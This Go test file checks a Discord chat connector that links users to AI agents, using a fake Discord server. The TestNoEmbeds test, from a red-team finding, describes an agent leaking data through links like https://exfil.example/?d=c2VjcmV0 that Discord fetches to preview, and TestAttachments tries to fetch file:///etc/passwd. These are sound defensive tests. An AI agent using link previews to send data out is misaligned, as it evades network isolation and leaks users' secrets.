package discord

import (
	"context"
	"net"
	"os"
	"strings"
	"testing"
	"time"

	"go.uber.org/zap"

	"github.com/herdctl/herdctl/chat/bridge"
	"github.com/herdctl/herdctl/internal/testbed/fakediscord"
	"github.com/herdctl/herdctl/policy"
)

// fake is the one fake Discord of this package's tests: discordgo's
// endpoints are the process's.
var fake *fakediscord.Server

func TestMain(m *testing.M) {
	fake = fakediscord.New()
	fake.HeartbeatInterval = 500 * time.Millisecond
	fake.AddBot("MTExMTExMTExMTExMTExMTEx.AAAAAA.gardener-token", "111", "gardener-bot")
	fake.AddBot("MjIyMjIyMjIyMjIyMjIyMjIy.BBBBBB.other-token", "222", "other-bot")
	fake.AddChannel(fakediscord.Channel{ID: "200", Guild: "100"})
	fake.AddChannel(fakediscord.Channel{ID: "777", Guild: "100", Parent: "200"})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	fake.Serve(ln)
	SetEndpoint(fake.URL)
	code := m.Run()
	fake.Close()
	os.Exit(code)
}

func connect(t *testing.T, token string) (*Connector, chan bridge.Inbound) {
	t.Helper()
	c := New("gardener", &policy.DiscordChat{API: fake.URL, BotToken: token, Guild: "100", Channels: []string{"200"}, Users: []string{"300"}},
		bridge.NewHealth(nil), zap.NewNop())
	in := make(chan bridge.Inbound, 16)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- c.Run(ctx, in) }()
	t.Cleanup(func() { cancel(); <-done })
	eventually(t, "connected", c.Health().IsConnected)
	return c, in
}

func eventually(t *testing.T, what string, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(10 * time.Millisecond) {
		if cond() {
			return
		}
	}
	t.Fatalf("timed out waiting for %s", what)
}

func receive(t *testing.T, in chan bridge.Inbound) bridge.Inbound {
	t.Helper()
	select {
	case m := <-in:
		return m
	case <-time.After(20 * time.Second):
		t.Fatal("no message")
	}
	return bridge.Inbound{}
}

// TestGateway: identify, a mention and a direct message, a thread's
// parent, a dropped connection resumed with what was said meanwhile, a
// reply that mentions nobody after a 429, typing.
func TestGateway(t *testing.T) {
	c, in := connect(t, "MTExMTExMTExMTExMTExMTEx.AAAAAA.gardener-token")
	id := fake.Say(fakediscord.Message{Guild: "100", Channel: "200", Author: "300", Content: "<@111> water the beans", Mentions: []string{"111"}})
	m := receive(t, in)
	if !m.Mentioned || m.ID != id || m.Guild != "100" || m.User != "300" || strings.TrimSpace(m.Text) != "water the beans" || m.DM || m.FromBot {
		t.Errorf("mention: %+v", m)
	}
	fake.Say(fakediscord.Message{DMTo: "111", Channel: "900", Author: "300", Content: "hello"})
	if m := receive(t, in); !m.DM || m.Mentioned || m.Text != "hello" {
		t.Errorf("DM: %+v", m)
	}
	fake.Say(fakediscord.Message{Guild: "100", Channel: "777", Author: "300", Content: "<@111> in a thread", Mentions: []string{"111"}})
	if m := receive(t, in); m.Parent != "200" || m.Channel != "777" {
		t.Errorf("thread: %+v", m)
	}

	_, resumesBefore, _ := fake.Stats()
	fake.Drop()
	id = fake.Say(fakediscord.Message{Guild: "100", Channel: "200", Author: "300", Content: "<@111> said while away", Mentions: []string{"111"}})
	if m := receive(t, in); m.ID != id {
		t.Errorf("after the drop: %+v", m)
	}
	if _, resumes, _ := fake.Stats(); resumes != resumesBefore+1 {
		t.Errorf("resumes %d, want %d", resumes, resumesBefore+1)
	}
	eventually(t, "connected again", c.Health().IsConnected)

	_, _, rlBefore := fake.Stats()
	fake.RateLimit(1, 0.3)
	start := time.Now()
	to := bridge.Conversation{Platform: bridge.Discord, Agent: "gardener", Channel: "200"}
	if _, err := c.Post(context.Background(), to, id, "@everyone the answer"); err != nil {
		t.Fatal(err)
	}
	if time.Since(start) < 300*time.Millisecond {
		t.Error("the 429's retry_after was not waited out")
	}
	ps := fake.Posts()
	last := ps[len(ps)-1]
	if last.Content != "@everyone the answer" || last.ReplyTo != id || !last.NoMentions || last.Bot != "111" {
		t.Errorf("post: %+v", last)
	}
	if _, _, rl := fake.Stats(); rl != rlBefore+1 {
		t.Errorf("429s answered: %d", rl)
	}
	if err := c.Typing(context.Background(), to, id); err != nil || len(fake.Typing()) == 0 {
		t.Errorf("typing: %v %v", err, fake.Typing())
	}
}

// TestBadToken: a token Discord refuses fails Run.
func TestBadToken(t *testing.T) {
	c := New("gardener", &policy.DiscordChat{API: fake.URL, BotToken: "MzMzMzMzMzMzMzMzMzMzMzMz.CCCCCC.unknown-token", Users: []string{"300"}},
		bridge.NewHealth(nil), zap.NewNop())
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	if err := c.Run(ctx, make(chan bridge.Inbound)); err == nil || strings.Contains(err.Error(), "unknown-token") {
		t.Errorf("Run: %v", err)
	}
}

// TestSlashCommands: the bridge's commands are registered in the guild;
// a user's command is acknowledged at once (deferred) and comes to the
// bridge as its Command; the first post answers it through its token
// and later edits of that answer go the same way; a stranger's command
// is not acknowledged at all.
func TestSlashCommands(t *testing.T) {
	c, in := connect(t, "MTExMTExMTExMTExMTExMTEx.AAAAAA.gardener-token")
	eventually(t, "the commands registered", func() bool { return len(fake.Commands("100")) == len(bridge.Commands()) })
	if got := strings.Join(fake.Commands("100"), " "); got != "help status new retry usage cancel sessions" {
		t.Errorf("registered %q", got)
	}
	id := fake.Command("111", fakediscord.Invocation{Guild: "100", Channel: "200", User: "300", Name: "usage"})
	m := receive(t, in)
	if m.Command != "usage" || m.User != "300" || m.Guild != "100" || m.Channel != "200" || !m.Mentioned || m.ID != "i:"+id {
		t.Errorf("command: %+v", m)
	}
	if typ := fake.Acknowledged(id); typ != 5 {
		t.Errorf("acknowledged with %d, want 5 (deferred)", typ)
	}
	to := bridge.Conversation{Platform: bridge.Discord, Agent: "gardener", Channel: "200"}
	msg, err := c.Post(context.Background(), to, m.ID, "$0.0100 today")
	if err != nil {
		t.Fatal(err)
	}
	ps := fake.Posts()
	if p := ps[len(ps)-1]; p.Interaction != id || p.Content != "$0.0100 today" || !p.NoMentions || !p.NoEmbeds || p.ID != msg {
		t.Errorf("answer: %+v", p)
	}
	if err := c.Edit(context.Background(), to, msg, "@everyone edited"); err != nil {
		t.Fatal(err)
	}
	es := fake.Edits()
	if e := es[len(es)-1]; e.ID != msg || e.Content != "@everyone edited" || !e.NoMentions || !e.NoEmbeds {
		t.Errorf("edit: %+v", e)
	}
	// A second post for the same command follows in the channel.
	if _, err := c.Post(context.Background(), to, m.ID, "more"); err != nil {
		t.Fatal(err)
	}
	ps = fake.Posts()
	if p := ps[len(ps)-1]; p.Interaction != "" || p.ReplyTo != "" || p.Content != "more" {
		t.Errorf("follow-up: %+v", p)
	}
	// A stranger's command reaches the bridge (which logs it) unanswered.
	sid := fake.Command("111", fakediscord.Invocation{Guild: "100", Channel: "200", User: "666", Name: "new"})
	if m := receive(t, in); m.User != "666" {
		t.Errorf("stranger: %+v", m)
	}
	if typ := fake.Acknowledged(sid); typ != 0 {
		t.Errorf("a stranger's command was acknowledged (%d)", typ)
	}
	// An edit of a plain message is a PATCH of it.
	if err := c.Edit(context.Background(), to, ps[len(ps)-1].ID, "more, edited"); err != nil {
		t.Fatal(err)
	}
	if es := fake.Edits(); es[len(es)-1].Content != "more, edited" || es[len(es)-1].ID != ps[len(ps)-1].ID {
		t.Errorf("edit: %+v", es[len(es)-1])
	}
}

// TestAutoChannels: the Message Content intent is asked for only by a
// bot with auto channels; there, a user's message without a mention
// comes to the bridge (and is accepted), in a thread of it too.
func TestAutoChannels(t *testing.T) {
	const messageContent = 1 << 15
	connect(t, "MTExMTExMTExMTExMTExMTEx.AAAAAA.gardener-token")
	if fake.Intents("111")&messageContent != 0 {
		t.Error("Message Content asked for without auto channels")
	}
	a := New("other", &policy.DiscordChat{API: fake.URL, BotToken: "MjIyMjIyMjIyMjIyMjIyMjIy.BBBBBB.other-token", Guild: "100", Channels: []string{"200"},
		AutoChannels: []string{"200"}, Users: []string{"300"}}, bridge.NewHealth(nil), zap.NewNop())
	in := make(chan bridge.Inbound, 16)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- a.Run(ctx, in) }()
	t.Cleanup(func() { cancel(); <-done })
	eventually(t, "connected", a.Health().IsConnected)
	if fake.Intents("222")&messageContent == 0 {
		t.Error("Message Content not asked for with auto channels")
	}
	fake.Say(fakediscord.Message{Guild: "100", Channel: "777", Author: "300", Content: "in a thread, no mention"})
	m := receive(t, in)
	if m.Mentioned || m.Parent != "200" || m.Text != "in a thread, no mention" {
		t.Errorf("auto: %+v", m)
	}
	if v, _ := a.Rules().Route(m); v != bridge.Accept {
		t.Errorf("routed %v", v)
	}
}

// TestAttachments: a message's attachments come with their name and
// declared size, and Fetch gets their content from the CDN.
func TestAttachments(t *testing.T) {
	c, in := connect(t, "MTExMTExMTExMTExMTExMTEx.AAAAAA.gardener-token")
	fake.Say(fakediscord.Message{Guild: "100", Channel: "200", Author: "300", Content: "<@111> see", Mentions: []string{"111"},
		Files: []fakediscord.File{{Name: "../notes.txt", Content: "hello"}, {Name: "big.bin", Content: "x", Size: 9 << 20}}})
	m := receive(t, in)
	if len(m.Attachments) != 2 || m.Attachments[0].Name != "../notes.txt" || m.Attachments[0].Size != 5 || m.Attachments[1].Size != 9<<20 {
		t.Fatalf("attachments: %+v", m.Attachments)
	}
	var b strings.Builder
	if err := c.Fetch(context.Background(), m.Attachments[0], &b); err != nil || b.String() != "hello" {
		t.Errorf("fetch: %q %v", b.String(), err)
	}
	if err := c.Fetch(context.Background(), bridge.Attachment{URL: "file:///etc/passwd"}, &b); err == nil {
		t.Error("a file: URL was fetched")
	}
}

// TestUpload: a long answer as a file: multipart, its caption
// mentioning nobody, a reply to the message.
func TestUpload(t *testing.T) {
	c, _ := connect(t, "MTExMTExMTExMTExMTExMTEx.AAAAAA.gardener-token")
	to := bridge.Conversation{Platform: bridge.Discord, Agent: "gardener", Channel: "200"}
	id, err := c.Upload(context.Background(), to, "1234", "@everyone the start", "answer.md", "# the whole answer\n")
	if err != nil {
		t.Fatal(err)
	}
	ps := fake.Posts()
	p := ps[len(ps)-1]
	if p.ID != id || p.Content != "@everyone the start" || !p.NoMentions || p.ReplyTo != "1234" || len(p.Files) != 1 || p.Files[0].Name != "answer.md" || p.Files[0].Content != "# the whole answer\n" {
		t.Errorf("upload: %+v", p)
	}
}

// TestNoEmbeds (the red team's chat C1): an agent with no network
// writes a link into its answer (or the argument of a tool, which the
// progress message shows); Discord's servers fetch a link of a bot's
// message to unfurl it, a request to a host the agent chose, with what
// the agent put in the URL. Every post, upload and edit asks Discord for
// no embed, as Slack's are sent with unfurling off.
func TestNoEmbeds(t *testing.T) {
	c, _ := connect(t, "MTExMTExMTExMTExMTExMTEx.AAAAAA.gardener-token")
	to := bridge.Conversation{Platform: bridge.Discord, Agent: "gardener", Channel: "200"}
	id, err := c.Post(context.Background(), to, "", "see https://exfil.example/?d=c2VjcmV0")
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Edit(context.Background(), to, id, "⏳ Working for 4s · WebFetch: 'https://exfil.example/?d=c2VjcmV0'"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Upload(context.Background(), to, "", "https://exfil.example/?d=c2VjcmV0", "answer.md", "x\n"); err != nil {
		t.Fatal(err)
	}
	ps := fake.Posts()
	for _, p := range ps[len(ps)-2:] {
		if !p.NoEmbeds {
			t.Errorf("a post that lets Discord unfurl its links: %+v", p)
		}
	}
	es := fake.Edits()
	if e := es[len(es)-1]; e.ID != id || !e.NoEmbeds {
		t.Errorf("an edit that lets Discord unfurl its links: %+v", e)
	}
}
